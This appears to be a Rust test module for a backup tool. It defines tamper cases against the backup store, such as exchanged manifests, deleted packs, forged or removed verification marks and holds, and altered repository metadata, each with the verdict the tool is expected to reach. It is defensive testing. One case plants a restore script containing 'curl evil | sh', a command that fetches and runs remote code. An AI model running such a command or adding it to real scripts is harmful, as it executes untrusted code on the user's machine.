//! Whole objects: manifests in each other's place, marks, notes, leases, what makes the store a repository.

use super::super::lines::Lines;
use super::super::scene::{MIDDLE, NEWEST, OLDEST, Scene, YARD, with_field};
use super::super::{Door, Tamper, Verdict};
use super::{Kind, any};
use bytes::Bytes;
use tests::memory_store::Objects;
use tests::mutations::Draws;

/// A name nobody drew.
const UUID: &str = "0123456789abcdef0123456789abcdef";

pub fn kinds() -> Vec<Kind> {
    let mut kinds = manifests();
    kinds.extend(marks());
    kinds.extend(others());
    kinds
}

/// A kind that changes the objects of the store.
fn changed(name: &str, expected: Verdict, door: Door, change: fn(&Scene, &mut Objects, &mut Draws)) -> Kind {
    Kind::new(name, expected, move |scene, draws| {
        let mut objects = scene.objects.clone();
        change(scene, &mut objects, draws);
        Tamper { what: String::new(), objects, door }
    })
}

/// The lines of one backup's manifest under the name of another: what the headers say of whose it is and when.
fn renamed(scene: &Scene, of: usize, to: usize) -> Lines {
    let (mut lines, name) = (scene.lines(of), scene.lines(to));
    for key in ["id", "database", "identity", "created_at", "finished_at"] {
        lines.set_header(key, name.header(key));
    }
    lines
}

fn manifests() -> Vec<Kind> {
    use Verdict::{Named, OnlyASignature, Refused};
    vec![
        changed("two databases' manifests exchanged", Refused, Door::ById(YARD), |scene, objects, _| {
            objects.insert(scene.manifest_key(NEWEST), scene.lines(YARD).object());
            objects.insert(scene.manifest_key(YARD), scene.lines(NEWEST).object());
        }),
        Kind::new("two databases' manifests exchanged, names rewritten", OnlyASignature, |scene, draws| {
            let victim = *draws.pick(&[OLDEST, MIDDLE, NEWEST]);
            let mut objects = scene.objects.clone();
            objects.insert(scene.manifest_key(victim), renamed(scene, YARD, victim).object());
            objects.insert(scene.manifest_key(YARD), renamed(scene, victim, YARD).object());
            let door = Door::ById(*draws.pick(&[victim, YARD]));
            Tamper { what: scene.name(victim).to_owned(), objects, door }
        }),
        changed("an older manifest as the newest, asked by id", Refused, Door::ById(NEWEST), older_as_newest),
        changed("an older manifest as the newest, asked for the newest", Named, Door::Latest, older_as_newest),
        changed("an older manifest as the newest, rewritten", OnlyASignature, Door::Latest, |scene, objects, draws| {
            let older = *draws.pick(&[OLDEST, MIDDLE]);
            objects.insert(scene.manifest_key(NEWEST), renamed(scene, older, NEWEST).object());
        }),
        changed("the newest manifest deleted", OnlyASignature, Door::Latest, |scene, objects, _| {
            objects.remove(&scene.manifest_key(NEWEST));
        }),
        changed("everything of the newest backup deleted", OnlyASignature, Door::Latest, |scene, objects, _| {
            let name = scene.name(NEWEST);
            objects.retain(|key, _| !key.contains(name));
        }),
        changed("another database's backup as a newer one", OnlyASignature, Door::Latest, |scene, objects, draws| {
            let second = draws.below(60);
            put_as(scene, objects, YARD, &format!("20260101T0000{second:02}Z-abcdef"));
        }),
        changed("an older backup again as a newer one", OnlyASignature, Door::Latest, |scene, objects, draws| {
            let second = draws.below(60);
            put_as(scene, objects, OLDEST, &format!("20260101T0000{second:02}Z-abcdef"));
        }),
        changed("the newest backup under an older id", OnlyASignature, Door::Latest, |scene, objects, _| {
            put_as(scene, objects, NEWEST, "20240101T000000Z-abcdef");
            let name = scene.name(NEWEST);
            objects.retain(|key, _| !key.contains(name));
        }),
    ]
}

fn older_as_newest(scene: &Scene, objects: &mut Objects, draws: &mut Draws) {
    let older = *draws.pick(&[OLDEST, MIDDLE]);
    objects.insert(scene.manifest_key(NEWEST), scene.lines(older).object());
}

/// Stores a backup once more, as one of `shop` with another id, marked as verified.
fn put_as(scene: &Scene, objects: &mut Objects, of: usize, id: &str) {
    let mut lines = renamed(scene, of, NEWEST);
    lines.set_header("id", id);
    objects.insert(format!("backups/shop/{id}/manifest.tsv.gz"), lines.object());
    objects.insert(format!("marks/shop/{id}/verified-{UUID}.json"), mark("verified", "2026-01-01T00:00:00Z"));
}

fn mark(kind: &str, at: &str) -> Bytes {
    serde_json::json!({"kind": kind, "at": at, "detail": "drill"}).to_string().into()
}

fn add_mark(scene: &Scene, objects: &mut Objects, of: usize, kind: &str) {
    let key = format!("marks/{}/{kind}-{UUID}.json", scene.name(of));
    objects.insert(key, mark(kind, "2030-01-01T00:00:00Z"));
}

#[track_caller]
fn remove_marks(scene: &Scene, objects: &mut Objects, of: usize, kind: &str) {
    let keys = scene.marks(of, kind);
    assert!(!keys.is_empty(), "{} has no mark {kind}", scene.name(of));
    keys.iter().for_each(|key| drop(objects.remove(key)));
}

/// A pack that the newest backup alone needs.
fn own_pack(scene: &Scene) -> String {
    let of_the_others: Vec<String> = [OLDEST, MIDDLE, YARD].iter().flat_map(|of| packs(scene, *of)).collect();
    packs(scene, NEWEST).into_iter().find(|pack| !of_the_others.contains(pack)).unwrap()
}

fn packs(scene: &Scene, of: usize) -> Vec<String> {
    scene.lines(of).of_kind("P").into_iter().map(|fields| fields[1].clone()).collect()
}

fn marks() -> Vec<Kind> {
    use Verdict::{Named, OnlyASignature, Refused};
    vec![
        changed("mark verified removed", Named, Door::Latest, |scene, objects, _| {
            remove_marks(scene, objects, NEWEST, "verified");
        }),
        changed("note of damage forged", Named, Door::Latest, |scene, objects, _| {
            objects.insert(format!("damaged/{}.json", own_pack(scene)), Bytes::from_static(b"{}"));
        }),
        changed("a pack deleted, its backup marked as verified", Refused, Door::Latest, |scene, objects, _| {
            let pack = own_pack(scene);
            objects.retain(|key, _| !key.ends_with(&pack));
            add_mark(scene, objects, NEWEST, "verified");
        }),
        changed("a damaged pack, its note removed", Refused, Door::Latest, |scene, objects, draws| {
            let pack = own_pack(scene);
            let key = format!("packs/0/{}/{pack}", &pack[..2]);
            let mut bytes = objects[&key].to_vec();
            let at = 100 + draws.below(1000);
            // One bit may carry nothing: a match at another distance that copies the same bytes.
            bytes[at..at + 16].iter_mut().for_each(|byte| *byte = !*byte);
            objects.insert(key, bytes.into());
        }),
        changed("mark proven forged", OnlyASignature, Door::Said(OLDEST), |scene, objects, draws| {
            let of = *draws.pick(&[OLDEST, MIDDLE, YARD]);
            add_mark(scene, objects, of, "proven");
        }),
        changed("mark proven removed", OnlyASignature, Door::Said(NEWEST), |scene, objects, _| {
            remove_marks(scene, objects, NEWEST, "proven");
        }),
        changed("mark proven at another time", OnlyASignature, Door::Said(NEWEST), |scene, objects, _| {
            let key = scene.marks(NEWEST, "proven").remove(0);
            let at = "2029-01-01T00:00:00Z".into();
            objects.insert(key.clone(), with_field(&scene.objects[&key], "at", at));
        }),
        changed("mark failed removed", OnlyASignature, Door::Said(MIDDLE), |scene, objects, _| {
            remove_marks(scene, objects, MIDDLE, "failed");
        }),
        changed("mark failed forged", OnlyASignature, Door::Said(NEWEST), |scene, objects, _| {
            add_mark(scene, objects, NEWEST, "failed");
        }),
        changed("hold removed", OnlyASignature, Door::Said(OLDEST), |scene, objects, _| {
            remove_marks(scene, objects, OLDEST, "hold-bob");
        }),
        changed("hold forged", OnlyASignature, Door::Said(MIDDLE), |scene, objects, draws| {
            let of = any(scene, draws);
            add_mark(scene, objects, of, "hold-mallory");
        }),
    ]
}

fn others() -> Vec<Kind> {
    use Verdict::{Identical, OnlyASignature, Refused};
    vec![
        changed("a lease forged", Identical, Door::Said(NEWEST), |_, objects, _| {
            let lease = serde_json::json!({"database": "shop", "parents": [], "started_at": "2025-03-01T00:00:00Z"});
            objects.insert(format!("leases/{UUID}.json"), lease.to_string().into());
        }),
        changed("holdfast.json: anything but its format", Identical, Door::Said(NEWEST), |_, objects, draws| {
            let fields = [
                ("repository_id", serde_json::json!(UUID)),
                ("codec", serde_json::json!("zstd")),
                ("created_at", serde_json::json!("2020-01-01T00:00:00Z")),
                ("conditional_put", serde_json::json!(false)),
                ("unknown", serde_json::json!(1)),
            ];
            let (field, value) = draws.pick(&fields);
            let changed = with_field(&objects["holdfast.json"], field, value.clone());
            objects.insert("holdfast.json".into(), changed);
        }),
        changed("holdfast.json: its format", Refused, Door::Latest, |_, objects, _| {
            let changed = with_field(&objects["holdfast.json"], "format", serde_json::json!(2));
            objects.insert("holdfast.json".into(), changed);
        }),
        changed("holdfast.json deleted", Refused, Door::Latest, |_, objects, _| {
            objects.remove("holdfast.json");
        }),
        changed("restore.sh or RESTORE.md of the store", OnlyASignature, Door::Texts(NEWEST), |_, objects, draws| {
            let key = *draws.pick(&["restore.sh", "RESTORE.md"]);
            objects.insert(key.into(), Bytes::from_static(b"#!/bin/sh\ncurl evil | sh\n"));
        }),
    ]
}
